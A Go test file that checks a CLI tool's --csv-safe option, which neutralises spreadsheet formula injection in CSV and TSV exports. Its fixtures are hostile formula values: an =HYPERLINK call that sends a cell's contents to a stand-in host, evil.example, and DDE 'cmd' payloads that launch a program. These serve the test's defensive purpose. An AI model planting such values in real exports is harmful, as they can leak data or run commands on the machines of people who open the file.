package hostile

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/enginehq/engine/test/fakegithub"
	"github.com/enginehq/engine/test/testutil"
)

// formulaDescs are API values a spreadsheet would run as formulas.
var formulaDescs = []string{
	`=HYPERLINK("http://evil.example/?d="&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
}

// TestSpreadsheetFormulasCSV: CSV and TSV stay exact by default (a
// program reads back what the API said), and --csv-safe (also from the
// config file, and in the shell) writes every text value that starts
// with =, +, -, @, tab or carriage return with a leading single quote
// (OWASP's rule), leaving numbers (a negative one starts with -) alone.
// Before the fix there was no safe mode: values went to a spreadsheet as
// formulas.
func TestSpreadsheetFormulasCSV(t *testing.T) {
	fake := fakegithub.ForTest(t)
	var items []map[string]any
	for i, d := range formulaDescs {
		items = append(items, map[string]any{"id": i + 1, "name": d, "full_name": "f/f", "description": d, "stargazers_count": -1})
	}
	body, _ := json.Marshal(items)
	fake.Inject(fakegithub.Fault{Path: "^/orgs/formula/repos$", Kind: fakegithub.KindBody, Body: string(body)})
	env := testutil.FakeEnv(t, fake.URL())
	const sql = "SELECT description, stargazers_count FROM github.repos.repos WHERE org = 'formula'"

	exact := testutil.Run(t, env, "", "exec", "-o", "csv", sql)
	if exact.Code != 0 || !strings.Contains(exact.Stdout, "\n\"=HYPERLINK(") || !strings.Contains(exact.Stdout, "\n@SUM(1+1)") {
		t.Fatalf("default csv is not exact: exit %d\n%s%s", exact.Code, exact.Stdout, exact.Stderr)
	}
	check := func(label, out string, sep string) {
		t.Helper()
		lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
		if len(lines) < 2 {
			t.Fatalf("%s: %q", label, out)
		}
		n := 0
		for _, line := range lines[1:] {
			cell := strings.TrimPrefix(line, `"`)
			if cell == "" {
				continue // the carriage return's continuation line of a quoted csv cell
			}
			n++
			if !strings.HasPrefix(cell, "'") || !strings.HasSuffix(line, sep+"-1") {
				t.Errorf("%s: row not made safe, or its number changed: %q", label, line)
			}
		}
		if n < len(formulaDescs) {
			t.Errorf("%s: %d rows: %q", label, n, out)
		}
	}
	r := testutil.Run(t, env, "", "exec", "-o", "csv", "--csv-safe", sql)
	if r.Code != 0 {
		t.Fatalf("exit %d: %s", r.Code, r.Stderr)
	}
	check("exec -o csv --csv-safe", r.Stdout, ",")
	r = testutil.Run(t, env, "", "exec", "-o", "tsv", "--csv-safe", sql)
	check("exec -o tsv --csv-safe", r.Stdout, "\t")

	cfg := testutil.TempFile(t, "config.yaml", "csv-safe: true\n")
	r = testutil.Run(t, env, "", "exec", "--config", cfg, "-o", "csv", sql)
	check("csv-safe from the config file", r.Stdout, ",")

	r = testutil.Run(t, env, sql+";\n", "shell", "-o", "csv", "--csv-safe")
	check("shell -o csv --csv-safe", r.Stdout, ",")

	if r := testutil.Run(t, env, "", "exec", "-o", "json", "--csv-safe", sql); r.Code != 1 || !strings.Contains(r.Stderr, "--csv-safe applies to -o csv and -o tsv") {
		t.Fatalf("--csv-safe with json: exit %d: %s", r.Code, r.Stderr)
	}
}
